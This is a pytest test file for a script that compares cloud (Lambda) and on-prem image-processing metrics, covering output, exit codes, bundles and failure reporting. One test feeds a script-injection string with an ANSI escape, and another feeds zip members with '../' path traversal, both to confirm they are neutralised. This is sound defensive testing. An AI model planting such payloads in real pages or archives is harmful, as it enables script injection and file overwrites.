"""compare_cloud_onprem_metrics.py: what it prints and writes, and when it exits 0."""

import csv
import dataclasses
import hashlib
import html
import io
import json
import re
import shutil
import zipfile
from collections import defaultdict
from pathlib import Path

import boto3
import numpy as np
import pandas as pd
import pytest
from PIL import Image
from rows import append_rows, row

import compare_cloud_onprem_metrics as compare_script
from lambda_function.image_transform import JPEG_QUALITY, output_name, transform_image
from lambda_function.metrics_log import CSV_KEY, HEADER, MetricRow, rows_to_csv
from metrics.analysis import output_equivalence
from metrics.analysis.assumptions import Assumptions
from metrics.analysis.bundle import unpack
from metrics.collect import dead_letters
from metrics.collect.cloud_rows import CloudRows
from metrics.collect.invocations import Invocation, invocations_to_csv
from metrics.common import paths, run_lock
from metrics.common.cli import UserError
from metrics.common.paths import CHART_NAMES
from metrics.report import judgement

SCRIPT = "compare_cloud_onprem_metrics.py"
KEYS = ("a.jpg", "dir/b,c.jpg", "ü.jpg")
REFERENCE_HEADER = "timestamp,image_key,orig_size,new_size,proc_ms\n"


@pytest.fixture(autouse=True)
def _one_picture_for_all_charts(monkeypatch: pytest.MonkeyPatch) -> None:
    """Drawing takes most of the time, and has tests of its own (test_charts.py); the scripts that
    run as subprocesses draw all the same."""
    picture = io.BytesIO()
    Image.new("RGB", (8, 8)).save(picture, "PNG")
    drawn = defaultdict(picture.getvalue)
    monkeypatch.setattr(judgement, "draw_charts", lambda *_: drawn)


def on_prem_rows(run_id: str = "run", proc_ms: float = 10.0) -> list[MetricRow]:
    facts = {"source": "on_prem", "environment": "local", "run_id": run_id}
    times = [(key, proc_ms + n) for n, key in enumerate(KEYS)]
    return [row(key, proc_ms=ms, cpu_ms=ms, **facts) for key, ms in times]


def cloud_rows(run_id: str = "run", times: float = 2.0) -> list[MetricRow]:
    return [
        row(key, proc_ms=times * (10.0 + n), cpu_ms=times * (10.0 + n), run_id=run_id)
        for n, key in reversed([*enumerate(KEYS)])
    ]


def csv_of(rows: list[MetricRow]) -> bytes:
    return (HEADER + rows_to_csv(rows)).encode()


def write_rows(checkout: Path, on_prem: list[MetricRow], cloud: list[MetricRow]) -> None:
    local_csv = checkout / "onprem_images" / "metrics" / "local_metrics.csv"
    local_csv.parent.mkdir(exist_ok=True)
    local_csv.write_bytes(csv_of(on_prem))
    (checkout / "metrics" / "lambda_metrics.csv").write_bytes(csv_of(cloud))


def error_line(done) -> str:
    """The one line on stderr of a script that a user's error ended."""
    assert done.returncode == 1, done.stderr
    (line,) = done.stderr.splitlines()
    assert line.startswith("error: ")
    return line


# --- as a user runs it --------------------------------------------------------------------------


def test_a_complete_pair_of_files_gives_table_ratio_verdict_and_files(
    checkout, run_script_in, tmp_path
):
    write_rows(checkout, on_prem_rows(), cloud_rows())
    done = run_script_in(SCRIPT, "--no-download", cwd=tmp_path)  # from wherever it is called
    assert (done.returncode, done.stderr) == (0, "")
    assert re.search(r"^on_prem +local +3 +0 +0 +11\.0", done.stdout, re.MULTILINE)
    assert re.search(r"^ +cloud +embedded +3 +0 +0 +22\.0", done.stdout, re.MULTILINE)
    assert "completeness 100.0%: 6 of 6 rows, 6 done (no manifest: " in done.stdout
    assert "cloud/on_prem time per picture: geometric mean 2.00, 95% CI 1.60 to 2.50" in done.stdout
    assert "\non-prem is 2.00x faster per picture (95% CI 1.60 to 2.50, 3 pictures" in done.stdout
    assert "problem" not in done.stdout

    merged = checkout / "metrics" / "merged_metrics.csv"
    lines = pd.read_csv(merged)
    assert list(lines["image_key"]) == list(KEYS)
    assert list(lines["arms"]) == ["both"] * 3
    for name in CHART_NAMES:
        with Image.open(checkout / "metrics" / "charts" / f"{name}.png") as picture:
            picture.load()
    results = [checkout / "metrics" / name for name in ("report.html", "summary.json")]
    *printed, charts = done.stdout.splitlines()[-4:]
    assert [tmp_path / path for path in printed] == [*results, merged]
    assert charts == f"project/metrics/charts/ ({len(CHART_NAMES)} charts)"


def test_problems_are_printed_with_their_reason_and_the_exit_code_is_1(checkout, run_script_in):
    cloud = cloud_rows()[1:]
    cloud[0] = dataclasses.replace(cloud[0], output_sha256="cd" * 32)
    write_rows(checkout, on_prem_rows(), cloud)
    done = run_script_in(SCRIPT, "--no-download")
    assert (done.returncode, done.stderr) == (1, "")
    assert "\nproblem: 1 of 3 pictures have no cloud row: 'ü.jpg'\n" in done.stdout
    assert "\nproblem: the output differs for 1 picture: 'dir/b,c.jpg'\n" in done.stdout
    assert (
        "\nnot comparable: 1 of 3 pictures have no cloud row; the output differs for 1 picture\n"
    ) in done.stdout
    assert "faster" not in done.stdout
    merged = pd.read_csv(checkout / "metrics" / "merged_metrics.csv")
    assert list(merged["arms"]) == ["both", "both", "on_prem"]
    for name in CHART_NAMES:
        assert (checkout / "metrics" / "charts" / f"{name}.png").exists()


def test_reference_files_of_five_columns_are_compared(checkout, run_script_in):
    lines = "2025-11-20T10:00:00Z,{}a.jpg,1000,{},{}\n2025-11-20T10:00:01Z,{}b.jpg,2000,{},{}\n"
    (checkout / "here.csv").write_text(
        REFERENCE_HEADER + lines.format("", 400, 99.1, "", 500, 99.1)
    )
    (checkout / "there.csv").write_text(
        REFERENCE_HEADER + lines.format("input/", 1000, 1.75, "input/", 2000, 1.75)
    )
    arguments = ("--no-download", "--local-csv", "here.csv", "--cloud-csv", "there.csv")
    done = run_script_in(SCRIPT, *arguments)
    assert (done.returncode, done.stderr) == (1, "")
    assert "problem: no picture was changed in the cloud arm" in done.stdout
    assert "problem: the output differs in size for 2 pictures: 'a.jpg', 'b.jpg'" in done.stdout
    assert "of 2 pairs, 0 identical, 0 equivalent, 2 different" in done.stdout


def test_a_missing_file_is_one_line_that_says_what_to_run(checkout, run_script_in):
    assert "local_metrics.csv does not exist; run onprem" in error_line(
        run_script_in(SCRIPT, "--no-download")
    )
    write_rows(checkout, on_prem_rows(), cloud_rows())
    (checkout / "metrics" / "lambda_metrics.csv").unlink()
    assert "lambda_metrics.csv does not exist; run the cloud arm" in error_line(
        run_script_in(SCRIPT, "--no-download")
    )


def test_with_no_cloud_to_download_from_one_line_says_how_to_start_one(checkout, run_script_in):
    write_rows(checkout, on_prem_rows(), cloud_rows())
    line = error_line(run_script_in(SCRIPT))
    assert "no embedded cloud is running" in line
    assert "lambda_function/embedded_cloud.py" in line


# --- in this process ----------------------------------------------------------------------------


@pytest.fixture
def judged_here(tmp_path, monkeypatch):
    """No file of this checkout counts, and one chart stands for all: drawing takes long."""
    monkeypatch.setattr(judgement, "CHARTS", judgement.CHARTS[:1])
    for name in ("RUN_JSON", "PIXELS_CSV", "INVOCATIONS_CSV"):
        monkeypatch.setattr(judgement, name, tmp_path / name)
    monkeypatch.setattr(run_lock, "RUN_LOCK", tmp_path / ".run.lock")


@pytest.fixture
def compare_files(judged_here, tmp_path, capsys):
    """Run the script on two files of rows; the exit code, stdout and stderr."""
    on_prem_csv, cloud_csv = tmp_path / "on_prem.csv", tmp_path / "cloud.csv"

    def run(on_prem, cloud, *arguments: str):
        on_prem_csv.write_bytes(csv_of(on_prem))
        if cloud is not None:
            cloud_csv.write_bytes(csv_of(cloud))
        files = ("--local-csv", str(on_prem_csv), "--cloud-csv", str(cloud_csv))
        code = compare_script.main([*files, "--output", str(run.output), *arguments])
        return code, *capsys.readouterr()

    run.cloud_csv = cloud_csv
    run.output = tmp_path / "results"
    return run


def changed(rows: list[MetricRow], **fields: object) -> list[MetricRow]:
    return [dataclasses.replace(rows[0], **fields), *rows[1:]]


FAILURE = {"status": "error", "error": "OSError: x", "new_size": 0, "output_sha256": ""}
PROBLEMS = {
    "a missing cloud row": (on_prem_rows(), cloud_rows()[1:], "have no cloud row"),
    "a missing on-prem row": (on_prem_rows()[1:], cloud_rows(), "have no on_prem row"),
    "a second row": (on_prem_rows(), [*cloud_rows(), cloud_rows()[0]], "more than one cloud row"),
    "another run": (on_prem_rows(), cloud_rows("old"), "3 of 3 pictures have no cloud row"),
    "another output": (on_prem_rows(), changed(cloud_rows(), output_sha256="0"), "the output diff"),
    "a failure": (on_prem_rows(), changed(cloud_rows(), **FAILURE), "differ in success or error"),
    "another transform": (on_prem_rows(), changed(cloud_rows(), transform="v2"), "other transform"),
    "another input": (on_prem_rows(), changed(cloud_rows(), orig_size=1), "the input differs"),
    "no work": (
        on_prem_rows(),
        [dataclasses.replace(r, new_size=r.orig_size) for r in cloud_rows()],
        "no picture was changed in the cloud arm",
    ),
}


@pytest.mark.parametrize(("on_prem", "cloud", "reason"), PROBLEMS.values(), ids=PROBLEMS)
def test_each_problem_alone_makes_the_exit_code_1(compare_files, on_prem, cloud, reason):
    code, out, _ = compare_files(on_prem, cloud, "--no-download")
    assert code == 1
    first, *_ = [line for line in out.splitlines() if line.startswith("problem: ")]
    assert reason in first
    assert f"\nnot comparable: {first.removeprefix('problem: ').partition(': ')[0]}" in out


def test_run_id_selects_one_run_of_files_that_hold_two(compare_files):
    on_prem = [*on_prem_rows("one"), *on_prem_rows("two", 20.0)]
    cloud = [*cloud_rows("one", 1.0), *cloud_rows("two", 4.0)]
    assert compare_files(on_prem, cloud, "--no-download")[0] == 1
    code, out, _ = compare_files(on_prem, cloud, "--no-download", "--run-id", "one")
    assert code == 0
    assert "geometric mean 1.00, 95% CI 0.80 to 1.25" in out
    assert "3 rows of other runs ('two') do not count" in out
    code, _, err = compare_files(on_prem, cloud, "--no-download", "--run-id", "three")
    assert code == 1
    assert err == "error: no row of run 'three'; there are ['one', 'two']\n"


WRONG_USAGE = [["--run-id", "a/b"], ["--timeout", "0"], ["--cloud", "azure"], ["--rounds"]]


@pytest.mark.parametrize("arguments", WRONG_USAGE, ids=" ".join)
def test_wrong_usage_exits_2(arguments, capsys):
    with pytest.raises(SystemExit) as caught:
        compare_script.main(arguments)
    assert caught.value.code == 2
    assert arguments[0] in capsys.readouterr().err


AWS = ("--cloud", "aws", "--region", "us-east-1")


@pytest.fixture
def named_buckets(s3, buckets):
    """S3 of moto's, and the flags that choose it with its buckets."""
    names = ("--input-bucket", buckets.input, "--output-bucket", buckets.output)
    return s3, buckets.output, (*AWS, *names)


def test_cloud_rows_are_downloaded_without_those_of_other_runs(compare_files, named_buckets):
    s3, bucket, flags = named_buckets
    stored = [*cloud_rows("old"), *cloud_rows(), *cloud_rows("older")[:1]]
    s3.put_object(Bucket=bucket, Key=CSV_KEY, Body=csv_of(stored))
    code, out, err = compare_files(on_prem_rows(), cloud_rows("stale"), *flags)
    assert code == 0
    assert "on-prem is 2.00x faster" in out
    assert "left out 3 rows of another run, old\n" in err
    assert "left out 1 rows of another run, older\n" in err
    assert compare_files.cloud_csv.read_bytes() == csv_of(cloud_rows())


def test_a_timeout_for_rows_that_never_come_names_them_and_keeps_the_file(
    compare_files, named_buckets
):
    s3, bucket, flags = named_buckets
    s3.put_object(Bucket=bucket, Key=CSV_KEY, Body=csv_of(cloud_rows()[1:]))
    before = cloud_rows("before")
    code, out, err = compare_files(on_prem_rows(), before, *flags, "--timeout", "0.01")
    assert (code, out) == (1, "")
    assert "error: 1 of 3 pictures have no cloud row after 0.01 s: 'ü.jpg'" in err
    assert compare_files.cloud_csv.read_bytes() == csv_of(before)


def test_a_bucket_without_rows_is_one_line(compare_files, named_buckets):
    _, bucket, flags = named_buckets
    code, out, err = compare_files(on_prem_rows(), None, *flags)
    assert (code, out) == (1, "")
    assert err == f"error: s3://{bucket}/{CSV_KEY} does not exist: no picture was processed yet\n"
    assert not compare_files.cloud_csv.exists()


def test_a_bucket_that_does_not_exist_is_one_line_that_names_it(compare_files, named_buckets):
    code, _, err = compare_files(on_prem_rows(), None, *named_buckets[2], "--output-bucket", "none")
    assert code == 1
    assert err.startswith("error: GetObject none: NoSuchBucket: ")
    assert err.count("\n") == 1


def test_on_prem_rows_of_two_runs_are_not_compared_with_a_download(compare_files, named_buckets):
    on_prem = [*on_prem_rows("one"), *on_prem_rows("two")]
    code, _, err = compare_files(on_prem, None, *named_buckets[2])
    assert code == 1
    assert err == ("error: the on-prem rows are of 2 runs ['one', 'two']; choose with --run-id\n")


def test_fetched_rows_replace_the_file_only_when_there_are_some(s3, buckets, tmp_path, capsys):
    target, rows = tmp_path / "new" / "rows.csv", CloudRows(s3, buckets.output, "run")
    with pytest.raises(UserError, match="no picture was processed yet"):
        rows.save(target)
    assert not target.exists()
    s3.put_object(Bucket=buckets.output, Key=CSV_KEY, Body=csv_of([*cloud_rows("old"), row("a")]))
    rows.look()
    rows.save(target)
    assert target.read_bytes() == csv_of([row("a")])
    assert capsys.readouterr().err == "left out 3 rows of another run, old\n"


# --- manifest, missing rows, same work ------------------------------------------------------------


def manifest_file(
    folder: Path, keys: tuple[str, ...] = KEYS, sha256: str = "", **fields: object
) -> str:
    pictures = [{"image_key": key, "size": 1000, "sha256": sha256 or key} for key in keys]
    content = {"run_id": "run", "rounds": 1, "pictures": pictures, **fields}
    path = folder / "manifest.json"
    path.write_text(json.dumps(content))
    return str(path)


def test_a_picture_that_neither_arm_has_is_missed_by_the_manifest(compare_files, tmp_path):
    flags = ("--no-download", "--manifest", manifest_file(tmp_path, (*KEYS, "lost.jpg")))
    code, out, _ = compare_files(on_prem_rows(), cloud_rows(), *flags)
    assert code == 1
    assert "completeness 75.0%: 6 of 8 rows, 6 done, 2 missing\n" in out
    assert "problem: 1 of 4 pictures have no on_prem row: 'lost.jpg'\n" in out
    assert "not comparable: 1 of 4 pictures have no on_prem row; 1 of 4" in out


def test_allow_partial_gives_a_verdict_that_says_so_and_excuses_nothing_else(compare_files):
    flags = ("--no-download", "--allow-partial")
    keys = [f"{n}.jpg" for n in range(5)]
    times = {"proc_ms": 10.0, "cpu_ms": 10.0}
    on_prem = [row(key, source="on_prem", environment="local", **times) for key in keys]
    cloud = [row(key, proc_ms=30.0, cpu_ms=30.0) for key in keys[1:]]
    code, out, _ = compare_files(on_prem, cloud, *flags)
    assert code == 0
    assert "warning: 1 of 5 pictures have no cloud row: '0.jpg'\n" in out
    assert "on-prem is 3.00x faster per picture" in out
    assert "partial: 90.0% of the rows" in out
    assert compare_files(on_prem, changed(cloud, output_sha256="0"), *flags)[0] == 1


def test_a_manifest_that_is_none_is_one_line_that_names_it(compare_files, tmp_path):
    for path, reason in ((tmp_path / "none", "does not exist"), (tmp_path / "cloud.csv", "is no")):
        flags = ("--no-download", "--manifest", str(path))
        code, _, err = compare_files(on_prem_rows(), cloud_rows(), *flags)
        assert code == 1
        assert err.count("\n") == 1
        assert f"{path.name} {reason}" in err


def photo(seed: int) -> Image.Image:
    """A picture of the target's size with something to see in it."""
    coarse = np.random.default_rng(seed).integers(0, 256, (60, 80, 3), dtype="uint8")
    return Image.fromarray(coarse).resize((800, 600), Image.Resampling.BICUBIC)


def encoded(picture: Image.Image, **options: object) -> bytes:
    output = io.BytesIO()
    picture.save(output, **options)
    return output.getvalue()


def rounded_otherwise(picture: Image.Image) -> bytes:
    """The output of `picture` with one value in twenty rounded the other way before encoding."""
    pixels = np.asarray(picture).astype(int)
    pixels += np.random.default_rng(1).choice([-1, 0, 1], pixels.shape, p=[0.025, 0.95, 0.025])
    other = Image.fromarray(pixels.clip(0, 255).astype("uint8"))
    return encoded(other, format="JPEG", quality=JPEG_QUALITY)


@pytest.mark.parametrize(
    ("other", "code", "said"),
    [
        (rounded_otherwise, 0, "2 identical, 1 equivalent, 0 different"),
        (lambda _: encoded(photo(9), format="JPEG"), 1, "2 identical, 0 equivalent, 1 different"),
    ],
    ids=["rounding", "another picture"],
)
def test_outputs_that_differ_are_fetched_and_compared_pixel_by_pixel(
    compare_files, named_buckets, tmp_path, monkeypatch, other, code, said
):
    s3, bucket, flags = named_buckets
    monkeypatch.setattr(output_equivalence, "OUTPUT_LOCAL", tmp_path / "output_local")
    for module in (paths, output_equivalence):
        monkeypatch.setattr(module, "CLOUD_OUTPUTS", tmp_path / "cloud_outputs")
    here = transform_image(encoded(photo(1), format="PNG"))
    there = other(photo(1))
    (tmp_path / "output_local").mkdir()
    (tmp_path / "output_local" / KEYS[0]).write_bytes(here)
    s3.put_object(Bucket=bucket, Key=f"processed/{KEYS[0]}", Body=there)
    on_prem = changed(on_prem_rows(), output_sha256=hashlib.sha256(here).hexdigest())
    cloud = [
        dataclasses.replace(r, output_sha256=hashlib.sha256(there).hexdigest())
        if r.image_key == KEYS[0]
        else r
        for r in cloud_rows()
    ]
    s3.put_object(Bucket=bucket, Key=CSV_KEY, Body=csv_of(cloud))
    bundle = tmp_path / "run.zip"
    found, out, err = compare_files(on_prem, None, *flags, "--bundle", str(bundle))
    assert (found, err) == (code, "")
    assert said in out
    # The bundle carries what was measured, so the same follows where no output is at hand.
    shutil.rmtree(tmp_path / "output_local")
    again = tmp_path / "again"
    assert compare_script.main(["--from-bundle", str(bundle), "--output", str(again)]) == code
    summaries = [(folder / "summary.json").read_bytes() for folder in (compare_files.output, again)]
    assert summaries[0] == summaries[1]


# --- bundles --------------------------------------------------------------------------------------


@pytest.fixture
def bundle(compare_files, tmp_path, capsys) -> Path:
    path = tmp_path / "run.zip"
    compare_files(on_prem_rows(), cloud_rows(), "--no-download", "--bundle", str(path))
    return path


def repacked(bundle: Path, **members: bytes | None) -> Path:
    """A bundle with members replaced, added or (None) left out."""
    with zipfile.ZipFile(bundle) as archive:
        content = {name: archive.read(name) for name in archive.namelist()}
    content |= members
    changed = bundle.with_name("changed.zip")
    with zipfile.ZipFile(changed, "w") as archive:
        for name, data in content.items():
            if data is not None:
                archive.writestr(name, data)
    return changed


def test_a_bundle_gives_the_same_bytes_again_in_the_same_and_in_a_new_bundle(
    bundle, compare_files, tmp_path, capsys
):
    again = tmp_path / "again.zip"
    folder = str(tmp_path / "elsewhere")
    assert compare_script.main(["--from-bundle", str(bundle), "--output", folder]) == 0
    assert "same statistics as packed in" in capsys.readouterr().out
    compare_script.main(["--from-bundle", str(bundle), "--output", folder, "--bundle", str(again)])
    assert again.read_bytes() == bundle.read_bytes()


def test_a_bundle_whose_rows_were_changed_is_found_out(bundle, tmp_path, capsys):
    changed = repacked(bundle, **{"local_metrics.csv": csv_of(on_prem_rows(proc_ms=11.0))})
    code = compare_script.main(
        ["--from-bundle", str(changed), "--output", str(tmp_path / "elsewhere")]
    )
    assert code == 1
    assert "the statistics that follow from its rows are not those" in capsys.readouterr().err


def test_members_that_lead_out_of_the_folder_are_not_unpacked(bundle, tmp_path):
    changed = repacked(bundle, **{"../escaped": b"x", "outputs/../../escaped": b"x"})
    target = tmp_path / "a" / "b"
    target.mkdir(parents=True)
    unpack(changed, target)
    assert {path.name for path in target.iterdir()} == {"local_metrics.csv", "lambda_metrics.csv"}
    assert not list(tmp_path.rglob("escaped"))


NOT_BUNDLES = {
    "nothing": lambda path: b"",
    "no zip": lambda path: b"PK but no zip",
    "cut off": lambda path: path.read_bytes()[:-200],
    "damaged": lambda path: path.read_bytes().replace(b"local_metrics", b"LOCAL_metrics", 1),
    "no rows": lambda path: repacked(path, **{"local_metrics.csv": None}).read_bytes(),
    "no summary": lambda path: repacked(path, **{"summary.json": None}).read_bytes(),
    "no choices": lambda path: repacked(path, **{"bundle.json": None}).read_bytes(),
    "no cloud rows": lambda path: repacked(path, **{"lambda_metrics.csv": None}).read_bytes(),
    "a run id that is none": lambda path: repacked(
        path, **{"bundle.json": b'{"format": 1, "run_id": ["a"]}'}
    ).read_bytes(),
    "odd choices": lambda path: repacked(path, **{"bundle.json": b"[1]"}).read_bytes(),
    "later format": lambda path: repacked(path, **{"bundle.json": b'{"format": 99}'}).read_bytes(),
    "odd pixels": lambda path: repacked(path, **{"pixel_differences.csv": b"x"}).read_bytes(),
}


@pytest.mark.parametrize("flag", ["--from-bundle", "--baseline"])
@pytest.mark.parametrize("broken", NOT_BUNDLES.values(), ids=NOT_BUNDLES)
def test_what_is_no_bundle_is_one_line_that_names_it(bundle, compare_files, flag, broken):
    odd = bundle.with_name("odd.zip")
    odd.write_bytes(broken(bundle))
    code, out, err = compare_files(on_prem_rows(), cloud_rows(), "--no-download", flag, str(odd))
    assert (code, out) == (1, "")
    assert err.startswith("error: ")
    assert err.count("\n") == 1
    assert "odd.zip" in err


ASSUMED = ("--machine-price", "2000", "--machine-years=4", "--utilisation", "25%")


@pytest.fixture
def rows_with_report_lines(judged_here, tmp_path, monkeypatch):
    """Rows of both arms, and beside them what Lambda reported of each cloud row."""
    first = [dataclasses.replace(r, round=n) for n in (1, 2, 3) for r in on_prem_rows()]
    second = [dataclasses.replace(r, round=n) for n in (1, 2, 3) for r in cloud_rows()]
    second = [dataclasses.replace(r, request_id=f"id {n}") for n, r in enumerate(second)]
    ones = [Invocation(r.request_id, 50, 50, 0, 1769, 80, False) for r in second]
    (tmp_path / "invocations.csv").write_bytes(invocations_to_csv(ones))
    monkeypatch.setattr(judgement, "INVOCATIONS_CSV", tmp_path / "invocations.csv")
    return first, second


def test_choices_are_packed_and_the_same_summary_follows_from_them(
    compare_files,
    rows_with_report_lines,
    tmp_path,
    capsys,
):
    target = tmp_path / "run.zip"
    arguments = ("--no-download", "--bundle", str(target), *ASSUMED)
    code, out, _ = compare_files(*rows_with_report_lines, *arguments)
    assert code == 0
    assert "assumed of a machine like this: 2,000 USD over 4 years, 60 watts" in out
    before = (compare_files.output / "summary.json").read_bytes()
    even = json.loads(before)["break_even"]
    assert even["assumptions"] == dataclasses.asdict(Assumptions(2000, 4, 60, 0.13, 0.25))
    assert even["sentence"] in out
    again = tmp_path / "again"
    assert compare_script.main(["--from-bundle", str(target), "--output", str(again)]) == 0
    assert (again / "summary.json").read_bytes() == before


def test_a_bundle_from_before_there_were_assumptions_opens_with_the_defaults(bundle, tmp_path):
    with zipfile.ZipFile(bundle) as archive:
        content = json.loads(archive.read("bundle.json"))
    del content["assumptions"]
    old = repacked(bundle, **{"bundle.json": json.dumps(content).encode()})
    (tmp_path / "unpacked").mkdir()
    run_files, _ = unpack(old, tmp_path / "unpacked")
    assert run_files.choices.assumptions == Assumptions()


def test_from_a_bundle_the_assumptions_are_not_chosen_again(bundle, capsys):
    with pytest.raises(SystemExit) as stopped:
        compare_script.main(["--from-bundle", str(bundle), "--power", "10"])
    assert stopped.value.code == 2
    assert "assumptions of cost" in capsys.readouterr().err


def test_against_an_earlier_run_each_arm_is_held_against_itself(bundle, compare_files):
    slower = [
        dataclasses.replace(r, proc_ms=3 * r.proc_ms, cpu_ms=3 * r.cpu_ms) for r in cloud_rows()
    ]
    other = changed(on_prem_rows(), output_sha256="cd" * 32)[:2]
    flags = ("--no-download", "--allow-partial", "--baseline", str(bundle))
    _, out, _ = compare_files(other, slower, *flags)
    lines = [line for line in out.splitlines() if line.startswith("changed: ")]
    assert lines == [
        "changed: on-prem: fewer than 3 pictures in both runs tell nothing of its speed",
        "changed: on-prem: other outputs than before: 'a.jpg'",
        "changed: on-prem: 1 picture in the run before only: 'ü.jpg'",
        "changed: the cloud: 3.00x slower than before "
        "(95% CI 2.40 to 3.75, 3 pictures widened by 25% for drift between the passes)",
    ]


def test_against_an_earlier_run_copies_of_a_picture_are_one_sample(bundle, compare_files, tmp_path):
    slower = [dataclasses.replace(r, proc_ms=3 * r.proc_ms) for r in cloud_rows()]
    flags = ("--no-download", "--baseline", str(bundle))
    one = manifest_file(tmp_path, sha256="one")
    _, out, _ = compare_files(on_prem_rows(), slower, *flags, "--manifest", one)
    assert (
        "changed: the cloud: fewer than 3 different pictures in both runs tell nothing of its speed"
    ) in out


# --- why pictures failed, in all that a reader gets -----------------------------------------------

UNREADABLE = "UnreadableImage: not a picture that can be read here"
TOO_LARGE = "UnreadableImage: {}x9000 pixels are too many to decode"


def failing_files() -> tuple[list[MetricRow], list[MetricRow]]:
    """Ten pictures: seven are none, two are too large, one is good; alike in both arms."""
    errors = [UNREADABLE] * 7 + [TOO_LARGE.format(n) for n in (20_000, 30_000)]
    failed = {"status": "error", "new_size": 0, "output_sha256": ""}
    facts = [failed | {"error": error} for error in errors] + [{}]
    return tuple(
        [
            row(f"{n}.jpg", source=source, environment=environment, **fact)
            for n, fact in enumerate(facts)
        ]
        for source, environment in (("on_prem", "local"), ("cloud", "embedded"))
    )


def test_counts_by_reason_with_names_are_in_terminal_report_and_summary(compare_files):
    code, out, _ = compare_files(*failing_files(), "--no-download")
    assert code == 0
    first = "'0.jpg', '1.jpg', '2.jpg', '3.jpg', '4.jpg' and 2 more"
    too_large = TOO_LARGE.format(20_000) + " (and alike)"
    for arm in ("on-prem", "the cloud"):
        assert f"warning: {arm}: 7 pictures failed ({UNREADABLE}): {first}\n" in out
        assert f"warning: {arm}: 2 pictures failed ({too_large}): '7.jpg', '8.jpg'\n" in out
    summary = json.loads((compare_files.output / "summary.json").read_bytes())
    names = [f"{n}.jpg" for n in range(9)]
    for arm in ("on_prem", "cloud"):
        commonest, other = summary["arms"][arm]["failures"]
        assert commonest == {
            "error": UNREADABLE, "varies": False, "rows": 7, "pictures": names[:7],
        }  # fmt: skip
        assert (other["rows"], other["varies"], other["pictures"]) == (2, True, names[7:])
    page = html.unescape((compare_files.output / "report.html").read_text())
    assert page.count(UNREADABLE) == 4  # by arm, in the table and among the warnings
    assert page.count(first) == 4
    assert page.count(too_large) == 4


def test_the_reasons_follow_from_a_bundle_too(compare_files, tmp_path, capsys):
    packed = tmp_path / "failed.zip"
    compare_files(*failing_files(), "--no-download", "--bundle", str(packed))
    elsewhere = ("--from-bundle", str(packed), "--output", str(tmp_path / "elsewhere"))
    assert compare_script.main([*elsewhere]) == 0
    assert f"the cloud: 7 pictures failed ({UNREADABLE})" in capsys.readouterr().out


def test_hostile_reasons_are_escaped_in_the_terminal_and_in_the_page(compare_files):
    bad = "OSError: \x1b[31m<script>alert(1)</script>"
    failed = {"status": "error", "error": bad, "new_size": 0, "output_sha256": ""}
    compare_files(on_prem_rows(), changed(cloud_rows(), **failed), "--no-download")
    code, out, _ = compare_files(on_prem_rows(), changed(cloud_rows(), **failed), "--no-download")
    assert code == 1
    assert "\x1b" not in out
    assert r"\x1b[31m<script>" in out
    assert "<script>alert" not in (compare_files.output / "report.html").read_text()


def failure_message(s3, bucket: str, key: str) -> dict:
    """What Lambda puts into the failure queue of a picture whose function was killed."""
    metadata = {"run-id": "run", "round": "1"}
    put = s3.put_object(Bucket=bucket, Key=f"input/{key}", Body=b"x", Metadata=metadata)
    etag = put["ETag"].strip('"')
    event = {
        "eventName": "ObjectCreated:Put",
        "eventTime": "2036-01-02T03:00:00.000Z",
        "s3": {"bucket": {"name": bucket}, "object": {"key": f"input/{key}", "eTag": etag}},
    }
    return {
        "timestamp": "2026-01-02T03:04:05.678Z",
        "requestContext": {
            "requestId": "r", "condition": "RetriesExhausted", "approximateInvokeCount": 3,
        },
        "requestPayload": {"Records": [event]},
        "responsePayload": {
            "errorType": "Runtime.ExitError",
            "errorMessage": "RequestId: 1 Error: Runtime exited with error: signal: killed",
        },
    }  # fmt: skip


@pytest.mark.parametrize("flags", [(), ("--timeout", "0.01")], ids=["at once", "waiting"])
def test_a_failure_that_only_the_queue_knows_of_is_told_by_the_script_alone(
    compare_files, s3, buckets, monkeypatch, flags
):
    sqs = boto3.client("sqs")
    urls = {
        output: sqs.create_queue(QueueName=output)["QueueUrl"]
        for output in ("RowsQueueUrl", "FailureQueueUrl")
    }
    monkeypatch.setattr(compare_script, "find_buckets", lambda _: buckets)
    monkeypatch.setattr(compare_script, "find_function", lambda _: urls)
    s3.put_object(Bucket=buckets.output, Key=CSV_KEY, Body=csv_of(cloud_rows()[1:]))
    message = failure_message(s3, buckets.input, KEYS[2])
    sqs.send_message(QueueUrl=urls["FailureQueueUrl"], MessageBody=json.dumps(message))
    monkeypatch.setattr(  # the metrics writer is not there to take it
        dead_letters, "send_row", lambda _, url, sent: append_rows(s3, buckets.output, sent)
    )
    code, out, err = compare_files(on_prem_rows(), None, *AWS, *flags)
    assert code == 1, err
    assert "completeness 100.0%" in out
    assert (
        "problem: the arms differ in success or error for 1 picture (on_prem: ok; cloud: "
        "LambdaFailure: RetriesExhausted after 3 tries: Runtime.ExitError: RequestId: 1 Error: "
        "Runtime exited with error: signal: killed): 'ü.jpg'\n"
    ) in out


def test_a_failure_queue_that_may_not_be_read_costs_no_answer(
    compare_files, named_buckets, monkeypatch
):
    s3, bucket, flags = named_buckets
    s3.put_object(Bucket=bucket, Key=CSV_KEY, Body=csv_of(cloud_rows()))

    def refuse(*_: object) -> None:
        raise s3.exceptions.ClientError({"Error": {"Code": "AccessDenied"}}, "DescribeStacks")

    monkeypatch.setattr(compare_script, "find_function", refuse)
    code, out, err = compare_files(on_prem_rows(), None, *flags)
    assert code == 0
    assert "on-prem is 2.00x faster" in out
    assert "going on without asking the failure queue: DescribeStacks: AccessDenied" in err


@pytest.mark.parametrize("flags", [(), ("--timeout", "0.01")], ids=["at once", "waiting"])
def test_queues_that_may_not_be_asked_cost_no_answer(
    compare_files, s3, buckets, monkeypatch, flags
):
    outputs = {"RowsQueueUrl": "not", "FailureQueueUrl": "there"}
    monkeypatch.setattr(compare_script, "find_buckets", lambda _: buckets)
    monkeypatch.setattr(compare_script, "find_function", lambda _: outputs)
    s3.put_object(Bucket=buckets.output, Key=CSV_KEY, Body=csv_of(cloud_rows()[1:]))
    code, _, err = compare_files(on_prem_rows(), None, *AWS, *flags, "--allow-partial")
    assert code == 0
    assert "going on without asking the failure queue: GetQueueAttributes" in err


def test_a_wait_that_ends_without_all_rows_says_why_others_failed(compare_files, named_buckets):
    s3, bucket, flags = named_buckets
    failed = {"status": "error", "error": UNREADABLE, "new_size": 0, "output_sha256": ""}
    stored = changed(cloud_rows()[1:], **failed)
    s3.put_object(Bucket=bucket, Key=CSV_KEY, Body=csv_of(stored))
    code, _, err = compare_files(on_prem_rows(), None, *flags, "--timeout", "0.01")
    assert code == 1
    assert f"the cloud: 1 picture failed ({UNREADABLE}): 'dir/b,c.jpg'\n" in err


